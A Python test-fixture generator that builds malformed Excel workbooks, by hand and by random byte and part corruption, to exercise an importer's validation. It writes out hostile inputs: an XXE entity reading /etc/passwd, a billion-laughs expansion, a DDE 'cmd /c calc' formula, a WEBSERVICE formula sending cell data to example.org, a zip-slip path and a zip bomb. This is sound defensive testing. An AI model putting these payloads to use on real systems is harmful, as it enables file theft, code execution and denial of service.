"""Two hundred bad files: made by hand from a good workbook, and by chance from its bytes and its parts."""

import random
import re
from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

type Parts = dict[str, bytes]

BLOWN_UP = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>"
FETCHED = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
# What is put into one cell of a number, a choice or a day, and is never right there.
WILD = (
    '<c r="{at}"><f>1+1</f><v>2</v></c>',
    '<c r="{at}"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>2</v></c>',
    '<c r="{at}" t="str"><f>cmd|"/c calc"!A1</f><v>0</v></c>',
    '<c r="{at}" t="e"><v>#REF!</v></c>',
    '<c r="{at}" t="b"><v>1</v></c>',
    '<c r="{at}" t="s"><v>99999999</v></c>',
    '<c r="{at}"><v>NaN</v></c>',
    '<c r="{at}"><v>1e308</v></c>',
    '<c r="{at}"><v>0.123456789</v></c>',
    '<c r="{at}" t="inlineStr"><is><t>about twelve</t></is></c>',
    '<c r="{at}" t="inlineStr"><is><t>1.050.000</t></is></c>',
    '<c r="{at}" t="inlineStr"><is><t>1,5</t></is></c>',
    '<c r="{at}" t="inlineStr"><is><t>\ufffd1,050,000</t></is></c>',
    '<c r="{at}" t="inlineStr"><is><t>03/04/2015</t></is></c>',
    '<c r="{at}" t="inlineStr"><is><t>12 homes</t></is></c>',
    '<c r="{at}" t="inlineStr"><is><t>5%</t></is></c>',
)


def parts_of(content: bytes) -> Parts:
    """A workbook's parts by name."""
    with ZipFile(BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def packed(parts: Parts) -> bytes:
    """Parts as a workbook."""
    written = BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return written.getvalue()


def made_by_hand(good: bytes, sheet: str, seed: int) -> Iterator[tuple[str, bytes]]:
    """Each kind of bad file once, by name; the seed decides which cell of the part `sheet` is hit."""
    chance = random.Random(seed)
    parts = parts_of(good)

    def changed(name: str, change: Callable[[str], str]) -> bytes:
        return packed({**parts, name: change(parts[name].decode()).encode()})

    def with_part(name: str, content: bytes = b"x") -> bytes:
        return packed({**parts, name: content})

    def in_cell(what: str) -> bytes:
        return changed(sheet, lambda text: put(text, what, chance))

    for number, what in enumerate(WILD):
        yield f"wild cell {number}", in_cell(what)
    yield "nothing", b""
    yield "words", b"Please find attached"
    yield "old office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    yield "password", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
    yield "open document", with_part("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
    yield "binary workbook", packed({**parts, "xl/workbook.bin": b"x"})
    yield "word document", packed({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})
    yield "macros", with_part("xl/vbaProject.bin")
    yield "old macros", with_part("xl/macrosheets/sheet1.xml")
    yield "external link", with_part("xl/externalLinks/externalLink1.xml")
    yield "embedded", with_part("xl/embeddings/oleObject1.bin")
    yield "active control", with_part("xl/activeX/activeX1.xml")
    yield "connection", with_part("xl/connections.xml")
    yield "way out", with_part("../../evil.xml")
    yield "many parts", packed({**parts, **{f"xl/media/{n}.png": b"" for n in range(1_001)}})
    yield (
        "bomb",
        with_part("xl/media/bomb.xml", bytes(160 * 1024 * 1024)) if seed == 0 else with_part("xl/media/../x"),
    )
    yield (
        "macro type",
        changed("[Content_Types].xml", lambda t: t.replace("sheet.main+xml", "sheet.macroEnabled.main+xml")),
    )
    yield "blown up", changed(sheet, lambda t: t.replace("<worksheet", BLOWN_UP + "<worksheet", 1))
    yield "fetched", changed("xl/sharedStrings.xml", lambda t: t.replace("<sst", FETCHED + "<sst", 1))
    yield (
        "link out",
        changed(
            "xl/_rels/workbook.xml.rels",
            lambda t: t.replace("<Relationship ", '<Relationship TargetMode="External" ', 1),
        ),
    )
    yield (
        "merged heading",
        changed(
            sheet,
            lambda t: t.replace(
                "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>'
            ),
        ),
    )
    yield (
        "merged rows",
        changed(
            sheet,
            lambda t: t.replace(
                "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>'
            ),
        ),
    )
    yield (
        "far corner",
        changed(
            sheet,
            lambda t: t.replace(
                "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
            ),
        ),
    )
    yield (
        "beyond the corner",
        changed(
            sheet,
            lambda t: t.replace(
                "</sheetData>", '<row r="1"><c r="ZZZ9999999"><v>1</v></c></row></sheetData>'
            ),
        ),
    )
    yield "reference twice", changed(sheet, twice)
    yield (
        "form gone",
        changed("xl/workbook.xml", lambda t: t.replace('name="Lifecourse form"', 'name="Old form"')),
    )
    yield (
        "sheet renamed",
        changed(
            "xl/workbook.xml",
            lambda t: t.replace('name="2.2 People in hospital"', 'name="People in hospital"'),
        ),
    )
    yield (
        "sheet twice",
        changed(
            "xl/workbook.xml",
            lambda t: t.replace('name="2.2 Beds in the area and beds"', 'name="2.2 People in hospital"'),
        ),
    )
    yield (
        "heading changed",
        changed("xl/sharedStrings.xml", lambda t: t.replace("<t>Row reference</t>", "<t>Row</t>")),
    )
    yield "no styles", packed({name: c for name, c in parts.items() if name != "xl/styles.xml"})
    yield "no texts", packed({name: c for name, c in parts.items() if name != "xl/sharedStrings.xml"})


def put(text: str, what: str, chance: random.Random) -> str:
    """A sheet's XML with one cell of numbers exchanged."""
    cells = list(re.finditer(r'<c r="(C(?!1")\d+)" s="\d+"><v>[^<]*</v></c>', text))
    cell = chance.choice(cells)
    return text[: cell.start()] + what.format(at=cell[1]) + text[cell.end() :]


def twice(text: str) -> str:
    """A sheet's XML in which two rows have the same reference."""
    first, second = re.findall(r'<c r="D[23]"[^>]*><v>(\d+)</v></c>', text)
    return text.replace(f"<v>{second}</v>", f"<v>{first}</v>")


def made_by_chance(good: bytes, sheet: str, seed: int) -> tuple[str, bytes]:
    """One file spoilt by chance: bytes turned, an end cut off, parts swapped, or XML shuffled."""
    chance = random.Random(seed)
    kind = seed % 5
    if kind == 0:
        spoilt = bytearray(good)
        for _ in range(chance.randint(1, 40)):
            spoilt[chance.randrange(len(spoilt))] ^= 1 << chance.randrange(8)
        return f"bytes turned {seed}", bytes(spoilt)
    if kind == 1:
        return f"cut off {seed}", good[: chance.randrange(len(good) - 1)]
    parts = parts_of(good)
    names = sorted(parts)
    if kind == 2:
        one, other = chance.sample(names, 2)
        parts[one], parts[other] = parts[other], parts[one]
        return f"swapped {one} and {other}", packed(parts)
    name = sheet if kind == 3 else chance.choice(names)
    content = bytearray(parts[name])
    start = chance.randrange(max(1, len(content) - 200))
    piece = content[start : start + chance.randint(1, 200)]
    at = chance.randrange(len(content) + 1)
    parts[name] = bytes(content[:at] + piece + content[at:])
    return f"stammering {name} {seed}", packed(parts)
